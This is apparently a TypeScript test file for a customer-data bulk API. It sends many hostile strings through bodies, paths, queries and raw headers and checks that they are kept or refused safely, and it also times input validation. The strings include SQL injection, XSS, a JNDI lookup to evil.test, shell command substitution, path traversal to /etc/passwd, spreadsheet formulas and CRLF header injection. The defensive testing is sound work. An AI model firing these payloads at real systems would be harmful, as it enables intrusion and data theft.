import { detailFieldTypes } from "@muster/client/contract";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { readDetailValue } from "../../src/domain/detail-value.ts";
import { readEmail } from "../../src/domain/email.ts";
import { readName } from "../../src/domain/name.ts";
import { guideBase, startMuster, type TestMuster } from "../muster.ts";
import { sayRaw } from "./raw-connection.ts";

// Control characters, what changes the direction of a line, what is not drawn, what is longer than it looks, and what other
// programs take for orders: SQL, HTML, shells, logs, templates, spreadsheets.

let muster: TestMuster;
const logged: string[] = [];
beforeAll(async () => {
	muster = await startMuster({ onLog: (line) => logged.push(line) });
});
afterAll(() => muster.close());

const controls = Array.from({ length: 0x20 }, (_, code) => `a${String.fromCharCode(code)}b`);
const hostile: readonly string[] = [
	...controls,
	...["a\u007fb", "a\u0080b", "a\u0085b", "a\u009bb", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007"],
	...[
		"\u202eevil",
		"a\u2066b\u2069",
		"\u200fשלום",
		"مرحبا",
		"a\u061cb",
		"a\u200bb",
		"a\u200db",
		"\ufeffa",
		"a\u2060b",
		"a\u00adb",
	],
	...[
		"a\u2028b",
		"a\u2029b",
		"\ufffe",
		"\uffff",
		"\u{10ffff}",
		"\u{e0041}",
		"\ufdd0",
		"\u034f",
		"é",
		"e\u0301",
		"ﬁ",
		"Å",
		"K",
	],
	...[
		"👨‍👩‍👧‍👦",
		"🏳️‍🌈",
		"👍🏽",
		"🇩🇪",
		"Z\u0351\u0363\u0329\u031f",
		"田中さん",
		"ﷺ",
		"𝕌𝕟𝕚",
		"ı",
		"ſ",
		"ß",
		"İ",
	],
	...[
		"' or 1=1 --",
		"'; drop table customers; --",
		'"; select pg_sleep(10); --',
		"$1",
		"$$",
		"\\",
		"\\'",
		"%00",
		"%s%n",
		"E'\\x41'",
	],
	...[
		"<script>alert(1)</script>",
		'"><img src=x onerror=alert(1)>',
		"javascript:alert(1)",
		"&lt;",
		"]]>",
		"<!--",
		"<?php",
	],
	...[
		["$", "{jndi:ldap://evil.test/a}"].join(""),
		"{{7*7}}",
		["$", "{7*7}"].join(""),
		"#{7*7}",
		"<%= 7*7 %>",
		"`id`",
		"$(id)",
		"| id",
		"; id",
		"\nid\n",
	],
	...[
		"=1+1",
		"+1",
		"-1",
		"@SUM(A1)",
		"\t=1",
		"\r=1",
		"../../etc/passwd",
		"..\\..\\",
		"file:///etc/passwd",
		"CON",
		"nul",
	],
	...[
		"null",
		"undefined",
		"true",
		"NaN",
		"0",
		"[]",
		"{}",
		"__proto__",
		"constructor",
		"toString",
		"hasOwnProperty",
		"then",
	],
	...["a\r\nSet-Cookie: a=b", "a\r\n\r\nHTTP/1.1 200 OK", '{"level":50,"msg":"forged"}', "x".repeat(255)],
];
/** As a row of a table of tests: escaped, so that no line of the report is broken by it. */
const rows = hostile.map((text) => [JSON.stringify(text).slice(0, 60), text] as const);

describe("a hostile text is kept and given back as it was sent, or refused in plain words", () => {
	test.each(rows)("%s", async (_shown, text) => {
		const site = await muster.aSite();
		const detail = { fieldId: "note", operation: "UPDATE", value: text };
		const items = {
			kept: { email: "kept@acme.com", displayName: text, clientRef: text, details: { note: text } },
			asKey: { email: "key@acme.com", details: { [text]: "value" } },
			asEmail: { email: `${text}@acme.com` },
			asDomain: { email: `jane@${text}.com` },
			asOrganization: { email: "organization@acme.com", organizations: [text] },
		};
		const task = await site.run("customer/profile/bulk", { customers: Object.values(items) });
		expect([task.status, task.summary.total]).toEqual(["COMPLETED", 5]);
		await site.post("customer/details/bulk", { customers: [{ email: "kept@acme.com", details: [detail] }] });
		await site.run("organization/profile/bulk", { organizations: [{ name: text, details: { note: text } }] });
		const [kept] = await site.results(task.taskId);
		if (kept.outcome === "created") {
			const { body } = await site.get(`customer/profile/${kept.id}`);
			expect(body.details.note).toBe(text);
			expect([text, text.trim()]).toContain(body.displayName);
			expect(kept.clientRef).toBe(text);
		}
		for (const failure of task.failures)
			expect(failure.message).toMatch(/^[^\p{Cc}\u2028-\u202e\u2066-\u2069]+$/u);
		expect(muster.troubles).toEqual([]);
	});

	test("in a path, a query and a key of the body", async () => {
		const site = await muster.aSite();
		for (const text of hostile) {
			const encoded = encodeURIComponent(text);
			const paths = ["customer/{}", "tasks/{}", "organization/{}", "customer/details/{}", "tasks/{}/results"];
			const queries = [
				"customers?email={}",
				"customers?name={}",
				"tasks?cursor={}",
				"tasks?idempotencyKey={}",
				"tasks?{}=1",
			];
			for (const url of [...paths, ...queries]) {
				const answer = await site.get(url.replace("{}", encoded));
				expect([text, url, answer.status < 500]).toEqual([text, url, true]);
			}
			const refused = await site.post("customer/bulk", { [text]: [{}] });
			expect([text, refused.status]).toEqual([text, 400]);
		}
	});

	test("in every header that is read, as the bytes of UTF-8", async () => {
		const site = await muster.aSite();
		const body = '{"customers":[{"email":"jane.smith@acme.com"}]}';
		const names = [
			"Authorization",
			"Idempotency-Key",
			"Prefer",
			"X-Request-Id",
			"X-ExperimentalApi",
			"Content-Type",
		];
		for (const text of hostile) {
			for (const name of [...names, "X-Forwarded-For", "Origin", "Accept", "User-Agent", "Cookie"]) {
				const headers: Record<string, string> = {
					Host: "muster.test",
					Connection: "close",
					Authorization: `Bearer ${site.token}`,
					"Content-Type": "application/json",
					"Idempotency-Key": "key-1",
					"Content-Length": String(body.length),
					[name]: text,
				};
				const lines = Object.entries(headers).map((header) => header.join(": "));
				const request = `POST ${guideBase}/customer/bulk HTTP/1.1\r\n${lines.join("\r\n")}\r\n\r\n${body}`;
				const { statuses, text: heard } = await sayRaw(muster.url, request);
				expect([text, name, statuses.length, (statuses[0] ?? 500) < 500]).toEqual([text, name, 1, true]);
				expect(heard).not.toMatch(/^set-cookie/im);
			}
		}
	});

	afterAll(() => {
		// One event a line, and none of a request that was at fault itself.
		for (const line of logged) {
			expect(line.indexOf("\n")).toBe(line.length - 1);
			expect(JSON.parse(line).level).toBeLessThan(40);
		}
	});
});

describe("no text takes long to be judged, whatever its pattern", () => {
	const pieces = [
		"a",
		"1",
		"-",
		".",
		"@",
		" ",
		"a.",
		"1-",
		"a@",
		"%",
		":",
		"/",
		"(",
		"+",
		"0",
		"e\u0301",
		"ß",
		"😀",
		"xn--a-",
		"http://a",
		"1e1",
	];
	/** I12 of the list of faults: for a whole item, in milliseconds. */
	const mostMs = 5;
	/** Of the processor: a machine that is busy with other tests does not count. */
	const processorMs = (): number => {
		const { user, system } = process.threadCpuUsage();
		return (user + system) / 1000;
	};

	test.each(pieces)("%j, as long as a value, an email or a name may be", (piece) => {
		for (const end of ["", "!", "\n", "@"]) {
			const ofLength = (length: number): string =>
				piece.repeat(Math.floor((length - 1) / [...piece].length)) + end;
			const judge = (): void => {
				for (const type of detailFieldTypes) {
					const field = { id: "f", name: "F", type, options: ["Free"] };
					readDetailValue(field, ofLength(type === "TEXT" ? 10_000 : 255), "/details/f");
				}
				readEmail(ofLength(254), "/email");
				readEmail(`${ofLength(64)}@${ofLength(180)}.com`, "/email");
				readName(ofLength(255), "/name", "name");
			};
			// The best of a few, for the first ones are not compiled; none is asked for behind one that was quick enough.
			let best = Number.POSITIVE_INFINITY;
			for (let count = 0; count < 5 && best >= mostMs; count += 1) {
				const began = processorMs();
				judge();
				best = Math.min(best, processorMs() - began);
			}
			expect(best).toBeLessThan(mostMs);
		}
	});
});
